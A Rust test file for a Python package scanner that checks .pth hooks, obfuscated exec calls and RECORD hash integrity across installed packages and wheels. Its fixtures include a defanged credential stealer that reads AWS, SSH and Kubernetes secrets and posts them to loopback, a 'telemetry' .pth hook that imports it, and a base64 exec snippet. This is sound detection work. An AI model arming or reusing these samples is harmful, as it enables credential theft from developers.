//! One judgement whatever the shape: a package installed and the same package as a wheel,
//! RECORD hashes over whole files, `--deep` over every file a RECORD lists (issue 19).

use std::io::Write;
use std::path::Path;
use std::time::Duration;

use base64::Engine;
use pthscan_signatures::Signatures;
use sha2::Digest;

use super::{ScanOptions, ScanReport, scan};

fn sigs() -> &'static Signatures {
    Signatures::embedded().expect("embedded signatures load")
}

fn options(path: &Path, deep: bool) -> ScanOptions {
    ScanOptions {
        paths: vec![path.to_path_buf()],
        root: None,
        max_file_size: 64 << 20,
        max_memory: 256 << 20,
        deep,
        scan_timeout: Duration::from_secs(10),
        max_archive_depth: 3,
        all_mounts: false,
        db: std::sync::Arc::new(pthscan_db::Database::with_embedded(Default::default())),
        processes: false,
        exclude: None,
        image_stores: Vec::new(),
    }
}

/// A hook's module carrying the stealer shape (defanged: it acts only on a variable never set,
/// and then only towards the loopback discard port).
const STEALER: &str = r#"# defanged stealer shape
import json, os, urllib.request

_TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]


def run():
    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
        return
    loot = {}
    for p in _TARGETS:
        try:
            loot[p] = open(os.path.expanduser(p), "rb").read().decode("latin-1")
        except OSError:
            pass
    urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode(), timeout=1)
"#;

/// Decoded code run at import (it prints a word): what only `--deep` judges.
const DECODED_EXEC: &str = "import base64\nexec(base64.b64decode('cHJpbnQoImRlZmFuZ2VkIik='))\n";

/// One package, as wheel members: a hook, the module it imports, a module nothing imports at
/// start-up and a script, each of the last two running decoded code.
const PACKAGE: &[(&str, &str)] = &[
    (
        "telemetry.pth",
        "# start-up telemetry\nimport _telemetry_boot\n",
    ),
    ("_telemetry_boot.py", STEALER),
    ("pkg/__init__.py", ""),
    ("pkg/updater.py", DECODED_EXEC),
    ("pkg-1.0.data/scripts/pkg-update", DECODED_EXEC),
];

fn record_row(path: &str, data: &[u8]) -> String {
    let digest =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
    format!("{path},sha256={digest},{}\n", data.len())
}

/// Where an installer puts a member, relative to the site directory (as an installed RECORD
/// lists it).
fn installed_path(member: &str) -> String {
    match member.strip_prefix("pkg-1.0.data/scripts/") {
        Some(script) => format!("../../../bin/{script}"),
        None => member.to_owned(),
    }
}

/// `members` plus metadata, as a wheel whose RECORD lists them all.
fn wheel_of(members: &[(&str, &str)]) -> Vec<u8> {
    wheel_listing(members, &[], false)
}

/// As [`wheel_of`], RECORD listing the member named in `listed_as` with that content instead,
/// each member stored rather than deflated when `stored`.
fn wheel_listing(members: &[(&str, &str)], listed_as: &[(&str, &str)], stored: bool) -> Vec<u8> {
    let mut all: Vec<(String, Vec<u8>)> = members
        .iter()
        .map(|(n, t)| ((*n).to_owned(), t.as_bytes().to_vec()))
        .collect();
    all.push((
        "pkg-1.0.dist-info/METADATA".into(),
        b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n".to_vec(),
    ));
    all.push((
        "pkg-1.0.dist-info/WHEEL".into(),
        b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
    ));
    let mut record: String = all
        .iter()
        .map(|(n, d)| match listed_as.iter().find(|(m, _)| m == n) {
            Some((_, text)) => record_row(n, text.as_bytes()),
            None => record_row(n, d),
        })
        .collect();
    record.push_str("pkg-1.0.dist-info/RECORD,,\n");
    all.push(("pkg-1.0.dist-info/RECORD".into(), record.into_bytes()));
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let mut how = zip::write::SimpleFileOptions::default();
    if stored {
        how = how.compression_method(zip::CompressionMethod::Stored);
    }
    for (name, data) in &all {
        w.start_file(name.as_str(), how).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// The venv's site directory.
const SP: &str = "venv/lib/python3.12/site-packages";

/// `members` installed into `dir/venv` as pip installs a wheel: placed, with a RECORD that
/// lists each (the extra `rows` appended as they are).
fn install(dir: &Path, members: &[(&str, &[u8])], rows: &str) {
    let put = |rel: &str, data: &[u8]| {
        let path = dir.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, data).unwrap();
    };
    put("venv/pyvenv.cfg", b"home = /usr/bin\nversion = 3.12.4\n");
    let metadata = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n";
    let mut record = String::new();
    for (member, data) in members
        .iter()
        .copied()
        .chain([("pkg-1.0.dist-info/METADATA", &metadata[..])])
    {
        let rel = installed_path(member);
        put(&format!("{SP}/{rel}"), data);
        record.push_str(&record_row(&rel, data));
    }
    record.push_str("pkg-1.0.dist-info/RECORD,,\n");
    record.push_str(rows);
    put(&format!("{SP}/pkg-1.0.dist-info/RECORD"), record.as_bytes());
}

fn as_bytes<'a>(members: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a [u8])> {
    members.iter().map(|(n, t)| (*n, t.as_bytes())).collect()
}

/// Each finding as (rule, severity, where it is once installed, line): a wheel's member placed
/// where an installer puts it, an installed file relative to the site directory.
fn judged(report: &ScanReport, base: &Path) -> Vec<(String, String, String, Option<usize>)> {
    let site = base.join(SP);
    let mut out: Vec<_> = report
        .findings
        .iter()
        .map(|f| {
            let shown = f.location.path.to_string_lossy().into_owned();
            let place = match shown.split_once(" › ") {
                Some((_, member)) => {
                    let placed = crate::sources::wheel::place(Path::new(member));
                    match placed.strip_prefix(crate::sources::wheel::SITE) {
                        Ok(rel) => rel.to_string_lossy().into_owned(),
                        Err(_) => format!("../../..{}", placed.display()),
                    }
                }
                None => f.location.path.strip_prefix(&site).map_or_else(
                    |_| {
                        format!(
                            "../../../{}",
                            crate::pathfmt::display_path(
                                f.location
                                    .path
                                    .strip_prefix(base.join("venv"))
                                    .unwrap_or(&f.location.path)
                            )
                        )
                    },
                    |rel| rel.to_string_lossy().into_owned(),
                ),
            };
            (
                f.rule.to_string(),
                f.severity.to_string(),
                place,
                f.location.line,
            )
        })
        .collect();
    out.sort();
    out
}

fn rules_at(found: &[(String, String, String, Option<usize>)], place: &str) -> Vec<String> {
    found
        .iter()
        .filter(|f| f.2 == place)
        .map(|f| f.0.clone())
        .collect()
}

/// The same package gets the same judgement installed and as a wheel: its hook and what the
/// hook imports by default, every file (its script too) with `--deep`.
#[test]
fn a_package_is_judged_alike_installed_and_as_a_wheel() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    install(&base, &as_bytes(PACKAGE), "");
    std::fs::create_dir(base.join("dist")).unwrap();
    std::fs::write(
        base.join("dist/pkg-1.0-py3-none-any.whl"),
        wheel_of(PACKAGE),
    )
    .unwrap();
    for deep in [false, true] {
        let installed = judged(&scan(&options(&base.join("venv"), deep), sigs()), &base);
        let wheel = judged(&scan(&options(&base.join("dist"), deep), sigs()), &base);
        assert_eq!(installed, wheel, "deep: {deep}");
        // the hook and the module it imports, always
        assert!(rules_at(&installed, "telemetry.pth").contains(&"PTH001".to_owned()));
        assert!(
            rules_at(&installed, "_telemetry_boot.py").contains(&"cred-sweep-stores".to_owned()),
            "{installed:#?}"
        );
        // the rest only with --deep: a module nothing imports at start-up, a script in bin/
        for place in ["pkg/updater.py", "../../../bin/pkg-update"] {
            assert_eq!(
                rules_at(&installed, place).contains(&"obf-exec-decoded".to_owned()),
                deep,
                "{place} (deep: {deep}): {installed:#?}"
            );
        }
    }
}

/// RECORD hashes cover whole files whatever `--max-file-size` says, and every hash name RECORD
/// allows; a name it forbids or one no one can check is a note, never a finding; a RECORD path
/// that leaves the environment is refused and said.
#[test]
fn record_hashes_are_of_whole_files_and_their_names_and_paths_are_checked() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    // a hook and a module larger than the cap, each changed after install in its last byte
    let big_hook = format!("import os\n{}#a\n", "#".repeat(8192));
    let big_module = format!("x = 1\n{}#a\n", "#".repeat(8192));
    install(
        &base,
        &[
            ("big_hook.pth", big_hook.as_bytes()),
            ("pkg/__init__.py", b""),
            ("pkg/big.py", big_module.as_bytes()),
        ],
        "",
    );
    let sp = base.join(SP);
    let change = |rel: &str, text: &str| std::fs::write(sp.join(rel), text.replace("#a\n", "#b\n"));
    change("big_hook.pth", &big_hook).unwrap();
    change("pkg/big.py", &big_module).unwrap();
    // rows hashed with each name: right, wrong, not allowed, unknown; one leaving the venv
    let named = [
        ("sha3_256", "ok_sha3.py", true),
        ("blake2b", "bad_blake2b.py", false),
        ("blake2s", "ok_blake2s.py", true),
        ("md5", "md5.py", false),
        ("shake_128", "shake.py", false),
    ];
    let mut rows = String::new();
    for (algo, file, right) in named {
        std::fs::write(sp.join(file), b"y = 2\n").unwrap();
        // the digest of the right or wrong content, under the row's name
        let digest = digest_of(algo, if right { b"y = 2\n" } else { b"y = 3\n" });
        rows.push_str(&format!("{file},{algo}={digest},6\n"));
    }
    std::fs::write(base.join("outside.py"), DECODED_EXEC).unwrap();
    rows.push_str("../../../../outside.py,,\n");
    let record = sp.join("pkg-1.0.dist-info/RECORD");
    let mut text = std::fs::read_to_string(&record).unwrap();
    text.push_str(&rows);
    std::fs::write(&record, text).unwrap();
    let mut opts = options(&base, false);
    opts.max_file_size = 4096;
    // by default the hook is hashed (start-up code), whole though past the cap
    let report = scan(&opts, sigs());
    let found = judged(&report, &base);
    assert!(
        found.contains(&("INT002".into(), "high".into(), "big_hook.pth".into(), None)),
        "{found:#?}"
    );
    assert!(rules_at(&found, "pkg/big.py").is_empty(), "{found:#?}");
    let notes: Vec<String> = report
        .diagnostics
        .iter()
        .filter(|d| d.path == record)
        .map(|d| d.message.clone())
        .collect();
    for said in ["`md5`", "`shake_128`", "outside the environment"] {
        assert!(notes.iter().any(|n| n.contains(said)), "{said}: {notes:#?}");
    }
    // nothing left unhashed (the hook past the cap is said to be judged in part, as before)
    assert!(
        report
            .diagnostics
            .iter()
            .all(|d| !d.message.contains("RECORD hash")),
        "{:#?}",
        report.diagnostics
    );
    // --deep: every listed file hashed whole, each name RECORD allows
    opts.deep = true;
    let report = scan(&opts, sigs());
    let found = judged(&report, &base);
    let mut changed: Vec<&str> = found
        .iter()
        .filter(|f| f.0 == "INT002")
        .map(|f| f.2.as_str())
        .collect();
    changed.sort();
    assert_eq!(
        changed,
        ["bad_blake2b.py", "big_hook.pth", "pkg/big.py"],
        "{found:#?}"
    );
    // what the RECORD path out of the environment names is never read
    assert!(
        report
            .findings
            .iter()
            .all(|f| !f.location.path.ends_with("outside.py")),
        "{found:#?}"
    );
    assert!(
        report
            .diagnostics
            .iter()
            .all(|d| !d.message.contains("RECORD hash")),
        "{:#?}",
        report.diagnostics
    );
}

/// The urlsafe base64 digest of `data` under a hash name, as RECORD writes it; a name no one
/// checks gets a made-up digest.
fn digest_of(algo: &str, data: &[u8]) -> String {
    let bytes: Vec<u8> = match algo {
        "sha3_256" => sha3::Sha3_256::digest(data).to_vec(),
        "blake2b" => blake2::Blake2b512::digest(data).to_vec(),
        "blake2s" => blake2::Blake2s256::digest(data).to_vec(),
        _ => vec![0; 16],
    };
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

/// A wheel member larger than the cap is hashed whole against RECORD: read again from the
/// wheel where it lies when the wheel is not held.
#[test]
fn a_wheel_member_past_the_cap_is_hashed_whole() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    // past the member cap and the budget's share for a wheel held whole (8 MiB at 64 MiB):
    // its members past the cap are read again from the file
    let big = format!("x = 1\n{}\n", "#".repeat(9 << 20));
    // changed after the build in its first line, RECORD left as it was: same size
    let built = big.replacen("x = 1", "x = 2", 1);
    let whl = wheel_listing(
        &[("pkg/__init__.py", ""), ("pkg/big.py", &big)],
        &[("pkg/big.py", &built)],
        true,
    );
    std::fs::create_dir(base.join("dist")).unwrap();
    std::fs::write(base.join("dist/pkg-1.0-py3-none-any.whl"), &whl).unwrap();
    let mut opts = options(&base.join("dist"), false);
    opts.max_file_size = 1 << 20;
    opts.max_memory = 64 << 20;
    let report = scan(&opts, sigs());
    let found = judged(&report, &base);
    assert!(
        found.contains(&("REC003".into(), "high".into(), "pkg/big.py".into(), None)),
        "{found:#?} {:#?}",
        report.diagnostics
    );
}
